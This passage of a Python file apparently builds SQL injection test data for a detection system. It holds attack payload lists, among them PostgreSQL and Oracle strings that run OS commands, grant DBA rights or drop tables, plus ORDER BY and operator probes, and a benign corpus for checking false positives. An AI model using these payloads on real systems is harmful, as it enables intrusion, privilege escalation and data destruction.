    "'; CREATE OR REPLACE FUNCTION system(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','system' "
    "LANGUAGE c STRICT; SELECT system('id') --",
    "'; CREATE FUNCTION f() RETURNS void AS $$ import os; os.system('id') $$ LANGUAGE plpython3u; SELECT f() --",
    # Oracle
    "' || DBMS_XMLQUERY.newContext('declare pragma autonomous_transaction; begin execute immediate "
    "''grant dba to scott''; commit; end;') || '",
    "' AND DBMS_JAVA.RUNJAVA('oracle/aurora/util/Wrapper /bin/sh -c id') IS NOT NULL --",
    "'; BEGIN EXECUTE IMMEDIATE 'DROP TABLE users'; END; --",
    "' AND SYS.DBMS_EXPORT_EXTENSION.GET_DOMAIN_INDEX_TABLES('A','B','DBMS_OUTPUT\".PUT(:P1);EXECUTE IMMEDIATE "
    "''DECLARE PRAGMA AUTONOMOUS_TRANSACTION;BEGIN EXECUTE IMMEDIATE ''''GRANT DBA TO SCOTT'''';END;'';END;--',"
    "'SYS',0,'1',0) IS NOT NULL --",
]
# "Looking for basic sql injection ..." and "Detects classic SQL injection probings 1/3": column counting with
# ORDER BY / GROUP BY, HAVING errors, and injection into a sort parameter. Targets: MySQL, SQL Server, PostgreSQL,
# SQLite, Oracle.
ORDER_BY: list[Entry] = [
    "1' ORDER BY 1 -- -",
    "1' ORDER BY 10 --+",
    "1 ORDER BY 5#",
    "' HAVING 1=1 --",
    "' GROUP BY users.id HAVING 1=1 --",
    "' GROUP BY users.id,users.username HAVING 1=1 --",
    "1 GROUP BY 1,2,3 -- -",
    "' ORDER BY (SELECT 1) -- -",
    "(CASE WHEN (1=1) THEN id ELSE name END)",
    "IF(1=1,id,name)",
    "id,(SELECT SLEEP(5))",
    "(SELECT CASE WHEN (SUBSTR(user(),1,1)='r') THEN id ELSE (SELECT 1 UNION SELECT 2) END)",
    "1 PROCEDURE ANALYSE()",
    "1 LIMIT 1,1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,version())),1)",
    "' GROUP BY 1 WITH ROLLUP -- -",
    "1' ORDER BY 1,2,3,4,5,6,7,8,9,10 -- -",
    "' ORDER BY 3 DESC --",
    "1 HAVING 1=1",
    "name ASC, (SELECT 1 FROM pg_sleep(5))",
    "id,(SELECT 1 FROM dual WHERE 1=1)",
    "' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0) -- -",
    "' AND 1=1 GROUP BY 1 HAVING COUNT(*)>0 --",
    "1 ORDER BY (SELECT ASCII(SUBSTRING(@@version,1,1)))",
    "id ASC NULLS FIRST, CAST((SELECT version()) AS int)",
    "\") ORDER BY 4 -- -",
    "' GROUP BY password HAVING 1=1 --",
    "1 ORDER BY 1 COLLATE NOCASE, (SELECT load_extension('x'))",
    "1 ORDER BY (SELECT 1 FROM users WHERE ROWNUM=1 AND username='ADMIN')",
]
# "SQL Injection Attack: SQL Operator Detected", "Detects conditional SQL injection attempts" and "Detects MATCH
# AGAINST ... injections": LIKE, BETWEEN, IN, EXISTS, ANY/SOME, regex and sounds-like operators as the condition.
# Targets: MySQL (RLIKE, REGEXP, SOUNDS LIKE, <=>, MATCH AGAINST), PostgreSQL (ILIKE, SIMILAR TO, ~), SQLite (GLOB),
# Oracle (REGEXP_LIKE), all (LIKE, BETWEEN, IN, EXISTS).
OPERATORS: list[Entry] = [
    "' OR username LIKE '%' -- -",
    "' OR 1 BETWEEN 0 AND 2 -- -",
    "' OR 'a' IN ('a') -- -",
    "1 AND 2 BETWEEN 1 AND 3",
    "' OR password LIKE 'a%' -- -",
    "' AND SUBSTRING(password,1,1) BETWEEN 'a' AND 'm' -- -",
    "' OR 1 IN (SELECT 1) -- -",
    "' OR username NOT IN ('') -- -",
    "' OR username RLIKE '.*' -- -",
    "' OR username REGEXP '^a' -- -",
    "' OR username SOUNDS LIKE 'admin' -- -",
    "' OR username ILIKE 'adm%' --",
    "' OR username SIMILAR TO '%' --",
    "' OR email GLOB '*' --",
    "' OR 'a' <=> 'a' -- -",
    "' OR username ~ '^a' --",
    "' OR REGEXP_LIKE(username,'^a') --",
    "' OR 1 NOT BETWEEN 2 AND 3 -- -",
    "0 OR id IN (1,2,3)",
    "' OR EXISTS(SELECT 1) -- -",
    "' OR 2 > ANY (SELECT 1) --",
    "' OR 1 = SOME (SELECT 1) --",
    "1 AND (SELECT COUNT(*) FROM users WHERE password LIKE 'a%')>0",
    "' AND (SELECT 1 FROM users WHERE username='admin' AND password LIKE '5f%')=1 -- -",
    "' OR MATCH(username) AGAINST('admin') -- -",
    "' OR username LIKE BINARY 'A%' -- -",
    "' OR id BETWEEN 1 AND 1000 --",
    "' AND password NOT LIKE '' --",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("sqli", "libinjection-sqli", LIBINJECTION),
    ("sqli", "sql-tautology-boolean", TAUTOLOGY),
    ("sqli", "sql-comment-sequence", COMMENT_SEQ),
    ("sqli", "union-select", UNION_SELECT),
    ("sqli", "stacked-queries", STACKED),
    ("sqli", "time-based-blind", TIME_BLIND),
    ("sqli", "error-based", ERROR_BASED),
    ("sqli", "out-of-band", OUT_OF_BAND),
    ("sqli", "information-schema-probing", INFO_SCHEMA),
    ("sqli", "mysql-comment-obfuscation", MYSQL_OBFUSCATION),
    ("sqli", "function-based-probing", FUNCTION_PROBE),
    ("sqli", "sql-authentication-bypass", AUTH_BYPASS),
    ("sqli", "nosql-injection", NOSQL),
    ("sqli", "hex-char-encoding", HEX_CHAR),
    ("sqli", "stored-procedure-xp-cmdshell", STORED_PROC),
    ("sqli", "having-group-order-by-probing", ORDER_BY),
    ("sqli", "like-between-in-operators", OPERATORS),
]
RAW_KV_SUBS = {"nosql-injection"}

# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    names = ["q", "id", "sort", "name", "email", "username", "filter", "order", "search"]
    rs_paths = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/login.php"]
    rs_names = ["id", "user", "search", "cat", "artist", "q"]
    kv_safe = "=&[]._-:/'*$!(),;{}~@^"
    raw_places = ("form", "param-name", "rs-param-name", "rs-raw-body")
    path_forbids = "/"


SET = _Set()


def _check_unique() -> None:
    seen: set[str] = set()
    for _, _, entries in FAMILIES:
        for entry in entries:
            payload = entry[0] if isinstance(entry, tuple) else entry
            if payload in seen:
                raise ValueError("duplicate payload: " + payload)
            seen.add(payload)


def attacks() -> Iterator[dict[str, Any]]:
    _check_unique()
    yield from SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same product names, keywords and syntax typed innocently (Slack chat and bios, user searches, links,
# admin search box, profiles, upload names, ordinary headers)
CHAT = [
    # MySQL / MariaDB
    "after the MySQL 8 upgrade the report query fails with ERROR 1064 near 'rank', it's a reserved word now",
    "the replica lag alert fired again, seconds_behind_master went to 340 during the backup",
    "we switched the health check from information_schema to SHOW TABLES, much faster on MySQL 8",
    "can someone with DBA rights run an EXPLAIN on the orders report? I think it ignores the index",
    "MariaDB 10.11 is the target for the legacy shop, 10.3 goes EOL",
    "utf8mb4 everywhere please, the old latin1 columns break emoji in display names",
    "the slow query log shows the search endpoint doing a full table scan on users",
    "mysqldump --single-transaction is what the nightly job uses, no table locks",
    "I added a composite index on (team_id, created_at) and the dashboard loads in 200ms now",
    "GROUP_CONCAT truncates at 1024 chars by default, that's why the export lost tags",
    # PostgreSQL
    "pg_dump of prod takes 20 minutes now, maybe pg_basebackup for the nightly",
    "autovacuum was stuck on the events table, a manual VACUUM ANALYZE fixed the planner stats",
    "the connection pool is pgbouncer in transaction mode, so no prepared statements across calls",
    "Postgres 16 upgrade is scheduled for Saturday, expect 10 minutes of read-only",
    "pg_stat_statements says the top query is the unread count, caching it in redis",
    "we use pg_sleep in the integration test to wait for the trigger, don't copy that into app code",
    "jsonb columns with a GIN index make the tag filter fast enough",
    "the ILIKE search on names is slow, trigram index is in the PR",
    # SQL Server / Oracle / SQLite
    "the finance team's SQL Server still has xp_cmdshell enabled, the audit flagged it, ticket opened",
    "WAITFOR DELAY in their stored procedure explains the 5 second timeouts on the billing sync",
    "Oracle licence renewal is in June, procurement wants the core count",
    "the SSIS package that loads the warehouse runs at 2am, don't restart the box then",
    "the mobile app caches everything in SQLite, the db file lives in the app sandbox",
    "sp_who2 showed a blocked session from the reporting user, killed it",
    "the DBA asked us to stop using SELECT * in the views, list the columns",
    # MongoDB
    "mongo shell: db.users.find({ lastLogin: { $gt: ISODate('2024-01-01') } }).count() gives 412",
    "the Mongoose schema has strict mode on, unknown fields are dropped",
    "we disabled server-side JavaScript in mongod, so $where is off for everyone",
    "Atlas upgraded the cluster to 7.0 overnight, no issues so far",
    "the aggregation pipeline with $lookup is slow, denormalizing team names into the user doc",
    "use $in with the list of ids instead of 50 separate queries please",
    "the $regex search is case-insensitive with the i option, it can't use the index though",
    # security talk
    "reminder: parameterized queries only, string concatenation in SQL fails code review",
    "the pentest report has one medium finding: verbose SQL errors on the legacy admin page",
    "the Bobby Tables comic is pinned in #security for a reason",
    "sqlmap found nothing on staging, report attached to the ticket",
    "the WAF blocked a customer whose last name is O'Brien, can we check the rule?",
    "the ORM escapes everything, but the raw() call in the export still needs a bound parameter",
    "MOVEit had a SQL injection CVE last year, we don't use it but vendors asked",
    "NoSQL injection with $ne in login forms is covered in the onboarding training",
    # everyday words that are also keywords
    "I'll be out Friday, drop me a message if anything breaks",
    "meeting moved to Union Station cafe, 3pm",
    "can you order by date in the admin list? newest first please",
    "having trouble with the VPN again, anyone else?",
    "between 2 and 4pm the database is in maintenance, the app shows a banner",
    "please select the right team in the dropdown before you save",
    "the sleep tracker integration is paused until the vendor fixes their API",
    "we should benchmark the new search before rolling it out",
    "update: the hotfix is live, thanks everyone",
    "insert the quarterly numbers into the slide deck by Thursday",
    "don't forget the where clause next time you run an update on prod :sweat_smile:",
    "delete the old staging buckets once the migration is verified",
    "grant me access to the analytics dashboard please, my request is in the queue",
    "the union rep asked about the on-call policy, HR is on it",
    "shutdown of the old VPN gateway is planned for the 15th",
    "exec summary for the board is in the shared drive",
    "sort the backlog by priority, not by age",
    "is 1=1 meeting still on for tomorrow? I mean the one-on-one :)",
    "like, the new onboarding flow is way better",
    "the limit is 100 items per page in the export",
    "char limit for Slack statuses is 100, mine got cut off",
    "O'Neil and D'Souza both joined the data team this week, say hi!",
    "the ascii art in the CLI banner breaks on Windows terminals",
    "concat the two csv files before importing, the tool only takes one",
    "Michael's team owns the billing service, ask them",
    "the group by team report now has a total row",
]
SEARCHES = [
    "O'Brien", "o'neil", "D'Souza", "D'Angelo", "Mc'Kenzie", "Nguyen", "dba", "database team", "data platform",
    "mysql", "postgres", "sql server", "oracle", "mongodb", "sqlite", "select", "union", "order", "group",
    "having", "between", "like", "drop", "sleep", "benchmark", "exec", "admin", "administrator", "root",
    "sysadmin", "analytics", "reporting", "billing", "Union Pacific", "Select Medical", "Oracle Park",
    "Group Lotus", "Order of the Phoenix", "jane.o'hara@example.com", "j.smith@example.org", "Chris & Pat",
    "R&D", "team:data", "role:admin", "created:2024-05", "last login > 30 days", "name:\"Ana Lopez\"",
    "Sleepy Hollow", "Drop Bears", "Like Minded", "Between Borders", "Exec Office", "Shutdown Corner",
    "Hexagon", "Charlotte", "Asciidoc", "Concat", "Bobby Tables",
]
URLS = [
    "https://dev.mysql.com/doc/refman/8.0/en/information-schema-introduction.html",
    "https://dev.mysql.com/doc/refman/8.0/en/miscellaneous-functions.html#function_sleep",
    "https://dev.mysql.com/doc/refman/8.0/en/comments.html",
    "https://dev.mysql.com/doc/refman/8.0/en/union.html",
    "https://mariadb.com/kb/en/group_concat/",
    "https://www.postgresql.org/docs/current/functions-datetime.html#FUNCTIONS-DATETIME-DELAY",
    "https://www.postgresql.org/docs/current/sql-copy.html",
    "https://www.postgresql.org/docs/current/functions-matching.html",
    "https://www.postgresql.org/docs/current/catalog-pg-class.html",
    "https://learn.microsoft.com/en-us/sql/relational-databases/system-stored-procedures/xp-cmdshell-transact-sql",
    "https://learn.microsoft.com/en-us/sql/t-sql/language-elements/waitfor-transact-sql",
    "https://learn.microsoft.com/en-us/sql/t-sql/functions/cast-and-convert-transact-sql",
    "https://docs.oracle.com/en/database/oracle/oracle-database/19/arpls/UTL_HTTP.html",
    "https://docs.oracle.com/en/database/oracle/oracle-database/19/sqlrf/SUBSTR.html",
    "https://www.sqlite.org/lang_select.html",
    "https://www.sqlite.org/schematab.html",
    "https://www.mongodb.com/docs/manual/reference/operator/query/ne/",
    "https://www.mongodb.com/docs/manual/reference/operator/query/where/",
    "https://www.mongodb.com/docs/manual/reference/operator/query/regex/",
    "https://owasp.org/www-community/attacks/SQL_Injection",
    "https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html",
    "https://cheatsheetseries.owasp.org/cheatsheets/Query_Parameterization_Cheat_Sheet.html",
    "https://xkcd.com/327/",
    "https://nvd.nist.gov/vuln/detail/CVE-2023-34362",
    "https://github.com/acme/api/pull/2211/files#diff-migrations-0042_add_index.sql",
    "https://github.com/acme/api/issues/1998",
    "https://stackoverflow.com/questions/2111384/sql-join-vs-union",
    "https://en.wikipedia.org/wiki/SQL_injection",
    "https://status.example.com/incidents/2024-04-18-database-maintenance",
    "https://www.example.com/shop/products?category=chairs&order=price_asc&page=2",
]
PROSE = [
    "Customer O'Brien cannot log in after the password reset",
    "order 48213 refund between 1 and 3 March",
    "union pacific account renewal",
    "users who like the new dashboard",
    "select plan upgrade requests from April",
    "drop-off rate in onboarding step 3",
    "sleep mode setting for the kiosk tablets",
    "group admins for the finance workspace",
    "having issues exporting to CSV",
    "exec team access review",
    "accounts created between 2024-01-01 and 2024-03-31",
    "D'Angelo duplicate account merge",
    "customers in ('DE', 'AT', 'CH') region",
    "invoice #1042 - payment by wire",
    "benchmark results for the search page",
    "where is the SSO setting for Okta",
    "reset 2FA for jane.o'hara@example.com",
    "users with role admin or owner",
    "last login older than 90 days",
    "MySQL migration ticket DATA-311",
    "Postgres read replica access request",
    "MongoDB Atlas billing question",
    "SQL Server licence count for finance",
    "Oracle export of the HR data",
    "delete request under GDPR art. 17",
    "update billing address for Acme GmbH",
    "insert missing cost centre for team 12",
    "sort order of the team list is wrong",
    "limit of 5 seats reached on the free plan",
    "hex colour codes for the new brand",
    "char encoding issue in imported names (Zoë, José)",
    "1 = 1 meetings for new managers",
    "Rock 'n' Roll Cafe booking",
    "the \"Select All\" checkbox in the export dialog",
    "cast list for the company play",
]
PROFILES = [
    ("Siobhán O'Brien", "12 Union Street, Cork"),
    ("Patrick O'Neil", "4 Select Lane, Boston"),
    ("Priya D'Souza", "221 MG Road, Bengaluru"),
    ("Marco D'Angelo", "Via dell'Orso 3, Roma"),
    ("Union Pacific Railroad", "1400 Douglas St, Omaha, NE"),
    ("Oracle Park Events", "24 Willie Mays Plaza, San Francisco"),
    ("Select Comfort Beds", "9800 59th Ave N, Minneapolis"),
    ("The Order of St John", "St John's Gate, London"),
    ("Drop Zone Skydiving", "Airfield Rd 2, Perris, CA"),
    ("Sleep Number Store", "Main St 77, Madison"),
    ("Benchmark Analytics", "5 Market Sq, Leeds"),
    ("Having Fun Toys", "Spielweg 3, Nürnberg"),
    ("Between the Lines Books", "Rue du Livre 8, Brussels"),
    ("Group Mongo Ltd", "Harbour Rd 1, Nairobi"),
    ("Charlotte Hex", "Elm St 10, Salem"),
    ("Ascii Printing", "Type Alley 5, Mainz"),
    ("Mary-Kate Sleeper", "Dream Ave 9, Austin"),
    ("Liam Union", "Oak Rd 14, Auckland"),
    ("Exec Cars", "Airport Way 3, Dublin"),
    ("Rock 'n' Roll Cafe", "Sunset Blvd 900, Los Angeles"),
    ("Zoë Müller", "Bahnhofstraße 1, Zürich"),
    ("José Ñúñez", "Av. Paulista 1000, São Paulo"),
    ("Dr. Ana-Maria Like", "Strada Lunga 2, Cluj"),
    ("Tables & Chairs Co", "Furniture Row 6, High Point, NC"),
    ("Bobby Tables", "1 Sanitize Ct, Boston"),
]
UPLOAD_NAMES = [
    "schema_dump_2024-05-01.sql", "0042_add_index_on_team_id.sql", "users_export.csv", "orders (Q1).xlsx",
    "explain analyze - search query.png", "mongo-collections.json", "erd-diagram.drawio.png",
    "DBA handover notes.docx", "select-committee-minutes.pdf", "union-agreement-2024.pdf", "sleep-study.pdf",
    "benchmark_results_v2.csv", "O'Brien contract.pdf", "group photo.jpg", "order_48213_invoice.pdf",
    "backup-restore-runbook.md", "sqlite-cache.db.txt", "drop-ship-suppliers.xlsx", "report_having_issues.txt",
    "between-us-newsletter.pdf",
]
BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.4 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/124.0.0.0 Safari/537.36 Edg/124.0.0.0"),
    ("User-Agent", "Grafana/10.4.1"),
    ("User-Agent", "Metabase/v0.49.6"),
    ("User-Agent", "python-requests/2.31.0"),
    ("User-Agent", "PostmanRuntime/7.37.3"),
    ("User-Agent", "curl/8.5.0"),
    ("Referer", "https://www.google.com/search?q=mysql+order+by+two+columns"),
    ("Referer", "https://www.google.com/search?q=postgres+select+distinct+on"),
    ("Referer", "https://stackoverflow.com/questions/2111384/sql-join-vs-union"),
    ("Referer", "https://app.example.com/admin/users?sort=created_at&order=desc&page=3"),
    ("Referer", "https://docs.example.com/api/users#filtering-and-sorting"),
    ("Cookie", "session=abc123; last_search=O%27Brien; tz=Europe%2FDublin"),
    ("Cookie", "session=abc123; sort=name_asc; per_page=50"),
    ("Accept-Language", "en-IE,en;q=0.9,ga;q=0.7"),
    ("X-Request-Id", "3f2a9c1e-7b44-4d0e-9a61-55e0c2d8b7aa"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS, "id,name\n1,Ann\n")


if __name__ == "__main__":
    print_records(attacks(), benign())
